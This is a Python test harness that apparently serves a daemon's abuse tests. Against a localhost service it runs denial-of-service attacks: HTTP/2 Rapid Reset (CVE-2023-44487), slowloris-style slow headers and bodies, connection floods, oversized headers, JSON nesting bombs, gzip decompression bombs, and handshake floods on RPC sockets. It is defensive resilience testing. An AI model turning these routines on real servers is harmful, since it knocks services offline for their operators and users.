"""What an unkind peer does to the daemon. Each attack runs in a process of its own, attacks.py NAME JSON, until its stdin ends, and
says in one line of JSON what it did. Started by test_abuse.py and tools/bench/abuse.py.

Where nothing else is said an attack goes as fast as its connections allow: it asks again as soon as it was answered or cut.
"""
import errno
import gzip
import json
import os
import pathlib
import resource
import select
import signal
import socket
import ssl
import struct
import subprocess
import sys
import threading
import time

from http2_frames import (CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PREFACE, RST_STREAM, SETTINGS, frame, hpack_integer,
                          hpack_request, secured)

ended = threading.Event()


def running():
    return not ended.is_set()


class Target:
    def __init__(self, port, token, path, task=None, tls=False, daemon=None, environment=None, ipc=None, tcp=None, count=None, **_):
        self.port, self.token, self.path, self.task, self.tls = port, token, path, task, tls
        self.daemon, self.environment, self.ipc, self.tcp, self.count = daemon, environment, ipc, tcp, count


# ---- connections ----

def abandon(connection):
    """Closes with a reset: no port waits in TIME_WAIT for the next thousands."""
    try:
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    except OSError:
        pass
    connection.close()


def dial(target, number=0, receive=None):
    """Blocking, from 127.0.0.1, 127.0.0.2 …: each source address has ports of its own."""
    connection = socket.socket()
    connection.settimeout(10)
    if receive:
        connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive)
    connection.setsockopt(socket.IPPROTO_IP, 24, 1)  # IP_BIND_ADDRESS_NO_PORT
    connection.bind((f"127.0.0.{1 + number % 8}", 0))
    connection.connect(("127.0.0.1", target.port))
    return connection


def head(target, verb="GET", path=None, more=""):
    return (f"{verb} {path or target.path} HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer {target.token}\r\n{more}\r\n").encode()


def answer(connection):
    """The status of one answer, whose body is read too; 0 = none."""
    data = b""
    while b"\r\n\r\n" not in data:
        more = connection.recv(65536)
        if not more:
            return 0
        data += more
    first, rest = data.split(b"\r\n\r\n", 1)
    length = [line for line in first.lower().split(b"\r\n") if line.startswith(b"content-length:")]
    left = int(length[0].split(b":")[1]) - len(rest) if length else 0
    while left > 0:
        more = connection.recv(65536)
        if not more:
            return 0
        left -= len(more)
    return int(first.split()[1])


class Crowd:
    """Many connections kept up: whoever is dropped comes back, at most `rate` a second. Each second every one may send or read a byte."""

    def __init__(self, target, count, opening=b"", trickle=b"", read=None, rate=500, wrap=None, announce=True):
        self.target, self.count, self.opening, self.trickle, self.read, self.rate = target, count, opening, trickle, read, rate
        self.announce = announce
        self.wrap = wrap or (lambda connection: connection)
        self.open, self.dropped, self.dialled, self.most = {}, 0, 0, 0
        self.poll = select.epoll()

    def add(self):
        connection = dial(self.target, self.dialled, receive=4096 if self.read is not None else None)
        self.dialled += 1
        connection = self.wrap(connection)
        left = self.opening
        connection.setblocking(False)
        item = [connection, left, 0]
        self.open[connection.fileno()] = item
        # With unread input on its way only the end matters.
        self.poll.register(connection.fileno(), select.EPOLLRDHUP | (0 if self.read is not None else select.EPOLLIN))
        self.push(item)

    def push(self, item):
        while item[1]:
            try:
                item[1] = item[1][item[0].send(item[1][:262144]):]
            except (BlockingIOError, ssl.SSLWantWriteError, ssl.SSLWantReadError):
                return
            except OSError:
                self.drop(item)
                return

    def drop(self, item):
        fd = item[0].fileno()
        if fd in self.open:
            del self.open[fd]
            self.poll.unregister(fd)
            abandon(item[0])
            self.dropped += 1

    def each_second(self):
        if not self.opening and self.read is None:
            return
        for item in list(self.open.values()):
            if self.trickle and not item[1]:
                item[1] = self.trickle
            self.push(item)
            if self.read is not None and item[0].fileno() in self.open:
                try:
                    if not item[0].recv(1):
                        self.drop(item)
                except (BlockingIOError, ssl.SSLWantReadError):
                    pass
                except OSError:
                    self.drop(item)

    def run(self, fill_rate=4000):
        began = tick = last = time.monotonic()
        allowed, full = 0.0, False
        while running():
            now = time.monotonic()
            allowed = min(allowed + (now - last) * (self.rate if full else fill_rate), self.count)
            last = now
            while len(self.open) < self.count and allowed >= 1 and running():
                allowed -= 1
                try:
                    self.add()
                except (ConnectionError, TimeoutError, ssl.SSLError):
                    self.dropped += 1
                except OSError as error:
                    if error.errno not in (errno.EMFILE, errno.EADDRNOTAVAIL):
                        raise
                    break
            if not full and (len(self.open) >= self.count or now - began > 3):  # they may never be all up
                full = True
                if self.announce:
                    print("ready", flush=True)
            self.most = max(self.most, len(self.open))
            for fd, events in self.poll.poll(0.02):
                item = self.open.get(fd)
                if not item:
                    continue
                if events & (select.EPOLLRDHUP | select.EPOLLHUP | select.EPOLLERR):
                    self.drop(item)
                    continue
                try:
                    if not item[0].recv(65536):
                        self.drop(item)
                except (BlockingIOError, ssl.SSLWantReadError):
                    pass
                except OSError:
                    self.drop(item)
            if time.monotonic() - tick >= 1:
                tick += 1
                self.each_second()
        for item in list(self.open.values()):
            abandon(item[0])
        return {"dialled": self.dialled, "most": self.most, "dropped": self.dropped}


# ---- requests that are abandoned ----

def reset_blocks(target, end_stream):
    """HEADERS and RST_STREAM of the streams 1, 3, 5 …, in pieces of some hundred."""
    block = hpack_request(target)
    stream = 1
    while True:
        piece = bytearray()
        for _ in range(400):
            piece += frame(HEADERS, END_HEADERS | (END_STREAM if end_stream else 0), stream, block)
            piece += frame(RST_STREAM, 0, stream, b"\0\0\0\x08")
            stream += 2
        yield bytes(piece), 400


def rapid_reset(target, end_stream=True):
    """CVE-2023-44487, one connection as fast as it can, and the next one at once when it was cut."""
    connections = streams = 0
    pieces = []
    making = reset_blocks(target, end_stream)
    for _ in range(250):  # made before, so that no time goes into making them
        pieces.append(next(making))
    print("ready", flush=True)
    while running():
        try:
            connection = secured(dial(target))
            connections += 1
            connection.sendall(PREFACE + frame(SETTINGS, 0, 0))
            for piece, count in pieces:
                if not running():
                    break
                connection.sendall(piece)
                streams += count
                connection.setblocking(False)
                try:
                    connection.recv(1 << 20)
                except (ssl.SSLWantReadError, BlockingIOError):
                    pass
                connection.settimeout(10)
            abandon(connection)
        except OSError:
            pass
    return {"connections": connections, "streams": streams}


def half_reset(target):
    """The same before the request is whole: nothing has been asked of the other end yet."""
    return rapid_reset(target, end_stream=False)


# ---- slow ones ----

def slow_reader(target):
    """1 B/s from a stream, a document and, with TLS, an HTTP/2 answer that has no window."""
    if target.tls:
        block = hpack_request(target, path="/openapi.json")
        opening = PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0))
        opening += b"".join(frame(HEADERS, END_HEADERS | END_STREAM, stream, block) for stream in range(1, 200, 2))
        return Crowd(target, target.count or 50, opening, read=1, wrap=secured).run()
    stream = head(target, path=f"/api/v1/plans/stream?task_id={target.task}", more="Last-Event-ID: 0\r\n")
    documents = head(target, path="/openapi.json") * 20
    half = (target.count or 400) // 2
    one, two = Crowd(target, half, stream, read=1), Crowd(target, half, documents, read=1, announce=False)
    results = {}
    other = threading.Thread(target=lambda: results.update(two.run()))
    other.start()
    mine = one.run()
    other.join()
    return {key: mine[key] + results[key] for key in mine}


def slow_header(target):
    """One byte of a header line a second; over TLS of an HTTP/2 header block that never ends."""
    if target.tls:
        opening = PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, END_STREAM, 1, hpack_request(target) + b"\x00" + hpack_integer(100, 7))
        return Crowd(target, target.count or 100, opening, trickle=frame(CONTINUATION, 0, 1, b"a"), wrap=secured).run()
    return Crowd(target, target.count or 500, head(target)[:-2] + b"X-Slow: ", trickle=b"a").run()


def slow_body(target):
    """Nearly all of a large body at once, and then one byte a second."""
    body = b'{"pet_breed":"' + b"x" * 900_000
    if target.tls:
        opening = PREFACE + frame(SETTINGS, 0, 0)
        block = hpack_request(target, "POST", "/api/v1/plans/", (("content-type", "application/json"),))
        for stream in range(1, 16, 2):
            opening += frame(HEADERS, END_HEADERS, stream, block)
            opening += b"".join(frame(DATA, 0, stream, body[at:at + 16384]) for at in range(0, len(body), 16384))
        return Crowd(target, target.count or 10, opening, trickle=frame(DATA, 0, 1, b"x"), rate=5, wrap=secured).run()
    opening = head(target, "POST", "/api/v1/plans/", f"Content-Type: application/json\r\nContent-Length: {len(body) + 1000}\r\n") + body
    return Crowd(target, target.count or 300, opening, trickle=b"x", rate=50).run(fill_rate=100)


def idle(target):
    """Connections that ask nothing; who is dropped is back at once, 500 a second."""
    return Crowd(target, target.count or 10000).run()


# ---- large and deep ----

def asked(target, requests):
    """One connection, one request after the other; statuses by label."""
    statuses, connection = {}, None
    print("ready", flush=True)
    while running():
        for label, request in requests:
            if not running():
                break
            try:
                if connection is None:
                    connection = dial(target)
                try:
                    connection.sendall(request)
                except (BrokenPipeError, ConnectionResetError):
                    pass  # the answer may be there already
                status = answer(connection)
            except OSError:
                status = 0
            key = f"{label}: {status}"
            statuses[key] = statuses.get(key, 0) + 1
            if status in (0, 400, 413, 431):
                connection.close()
                connection = None
    if connection:
        connection.close()
    return {"answers": statuses}


def large_headers(target):
    """100 KiB of headers, in one and in ninety, and more than h2o itself takes."""
    lines = "".join(f"X-Long-{i}: {'y' * 1100}\r\n" for i in range(90))
    return asked(target, [("one of 100 KiB", head(target, more=f"X-Long: {'x' * 102400}\r\n")), ("ninety", head(target, more=lines)),
                          ("500 KiB", head(target, more=f"X-Long: {'x' * 512000}\r\n"))])


def post(target, body, more=""):
    return head(target, "POST", "/api/v1/plans/", f"Content-Type: application/json\r\n{more}Content-Length: {len(body)}\r\n") + body


def bomb_bodies():
    size = 1_000_000
    keys = b",".join(b'"%07d":1' % i for i in range(size // 12))
    return {
        "nested arrays": b'{"pet_breed":' + b"[" * (size // 2) + b"]" * (size // 2) + b"}",
        "nested objects": b'{"x":' * (size // 6) + b"1" + b"}" * (size // 6),
        "nested where nobody looks": b'{"unknown":' + b"[" * (size // 2) + b"]" * (size // 2) + b"}",
        "huge array": b'{"allergens":[' + b'"a",' * (size // 4) + b'"a"]}',
        "huge array of numbers": b'{"pet_age":0,"unknown":[' + b"1," * (size // 2) + b"1]}",
        "long number": b'{"pet_weight":' + b"9" * size + b"}",
        "long fraction": b'{"pet_weight":0.' + b"0" * size + b"1}",
        "long exponent": b'{"pet_weight":1e' + b"9" * size + b"}",
        "many keys": b'{"pet_age":0,' + keys + b"}",
        "one key many times": b"{" + b",".join([b'"pet_age":1'] * (size // 12)) + b"}",
        "escapes": b'{"pet_breed":"' + b"\\u0041" * (size // 6) + b'"}',
        "wrong in every item": b'{"allergens":[' + b"1," * (size // 2) + b"1]}",
    }


def json_bombs(target):
    return asked(target, [(label, post(target, body)) for label, body in bomb_bodies().items()])


def compressed_bombs(target):
    """A gigabyte in one megabyte, under each name that means it."""
    packed = gzip.compress(b"{" + b" " * 200_000_000, 9)
    twice = gzip.compress(gzip.compress(b" " * 100_000_000, 9), 9)
    return asked(target, [("gzip", post(target, packed, "Content-Encoding: gzip\r\n")), ("twice", post(target, twice, "Content-Encoding: gzip, gzip\r\n")),
                          ("deflate", post(target, packed, "Content-Encoding: deflate\r\n"))])


# ---- a second instance, and peers of the RPC port ----

def second_instance(target):
    """Another daemon on the same data directory, on the same port, and on the same RPC and event sockets, over and over."""
    other = target.environment["PETFOOD_DATA_DIR"] + "-second"
    rows = {
        "data directory": {"API_PORT": "0"},
        "port": {"PETFOOD_DATA_DIR": other, "API_PORT": str(target.port)},
        "rpc socket": {"PETFOOD_DATA_DIR": other, "API_PORT": "0", "RPC_LISTEN": json.dumps(["ipc://" + target.ipc["rpc"]])},
        "events socket": {"PETFOOD_DATA_DIR": other, "API_PORT": "0", "EVENTS_LISTEN": json.dumps(["ipc://" + target.ipc["events"]])},
    }
    ends, texts = {}, {}
    print("ready", flush=True)
    while running():
        for label, more in rows.items():
            if not running() and label in texts:
                break
            done = subprocess.run([target.daemon, "--env-file=/dev/null"], env=dict(target.environment, **more), stdin=subprocess.DEVNULL,
                                  capture_output=True, text=True, timeout=60)
            said = [line for line in done.stderr.splitlines() if line.startswith("petfoodd: ")]
            ends[f"{label}: {done.returncode}"] = ends.get(f"{label}: {done.returncode}", 0) + 1
            texts[label] = said[-1] if said else done.stderr[-500:]
    return {"ends": ends, "texts": texts}


def sp_dial(address):
    connection = socket.socket(socket.AF_INET if isinstance(address, int) else socket.AF_UNIX)
    connection.settimeout(2)
    connection.connect(("127.0.0.1", address) if isinstance(address, int) else address)
    return connection


def sp_addresses(target):
    """Name and address of each listener: a path, or a port."""
    return {f"{kind} {name}": address for kind, addresses in (("ipc", target.ipc), ("tcp", target.tcp)) for name, address in addresses.items()}


SP_HELLO = b"\0SP\0\0\x30\0\0"


def drop_handshake(target):
    """Hangs up before nng's greeting, in each way there is, on ipc and tcp."""
    done = {}

    def count(label, attack):
        try:
            attack()
            done[label] = done.get(label, 0) + 1
        except OSError:
            done[label + " refused"] = done.get(label + " refused", 0) + 1

    def close(address, shut=None, reset=False, first=b""):
        connection = sp_dial(address)
        if first:
            connection.sendall(first)
        if shut is not None:
            connection.shutdown(shut)
        abandon(connection) if reset else connection.close()

    print("ready", flush=True)
    while running():
        for name, address in sp_addresses(target).items():
            count(f"{name} close", lambda: close(address))
            count(f"{name} reset", lambda: close(address, socket.SHUT_WR, True))
            count(f"{name} half", lambda: close(address, first=SP_HELLO[:4]))
            count(f"{name} half, reset", lambda: close(address, socket.SHUT_WR, True, SP_HELLO[:4]))
            count(f"{name} no protocol", lambda: close(address, first=b"GET / HTTP/1.1\r\n\r\n"))
        ended.wait(0.05)  # some hundred a second: a listener is silent from the first on
    return {"done": done}


def silent_handshake(target):
    """Holds connections that say nothing, or half of the greeting."""
    held, dialled = [], 0
    ready = False
    while running():
        for address in sp_addresses(target).values():
            for first in (b"", SP_HELLO[:4]):
                try:
                    connection = sp_dial(address)
                    if first:
                        connection.sendall(first)
                    connection.setblocking(False)
                    held.append(connection)
                    dialled += 1
                except OSError:
                    pass
        if len(held) >= (target.count or 200):
            if not ready:
                ready = True
                print("ready", flush=True)
            held.pop(0).close()
        ended.wait(0.005)
    for connection in held:
        connection.close()
    return {"dialled": dialled, "held": len(held)}


ATTACKS = {attack.__name__: attack for attack in (rapid_reset, half_reset, slow_reader, slow_header, slow_body, idle, large_headers, json_bombs,
                                                  compressed_bombs, second_instance, drop_handshake, silent_handshake)}


class Attack:
    """An attack under way in a process of its own; stop() ends it and gives back what it says."""

    def __init__(self, name, **target):
        self.process = subprocess.Popen([sys.executable, str(pathlib.Path(__file__).resolve()), name, json.dumps(target)],
                                        stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)

    def wait_ready(self):
        line = self.process.stdout.readline()
        assert line == "ready\n", f"the attack did not start: {line!r}"
        return self

    def stop(self):
        self.process.stdin.close()
        lines = self.process.stdout.read().splitlines()
        self.process.stdout.close()
        assert self.process.wait(60) == 0, "the attack failed"
        return json.loads(lines[-1])


def main():
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    signal.signal(signal.SIGINT, signal.SIG_IGN)

    def watch():
        while os.read(0, 4096):
            pass
        ended.set()
    threading.Thread(target=watch, daemon=True).start()
    print(json.dumps(ATTACKS[sys.argv[1]](Target(**json.loads(sys.argv[2])))), flush=True)


if __name__ == "__main__":
    main()
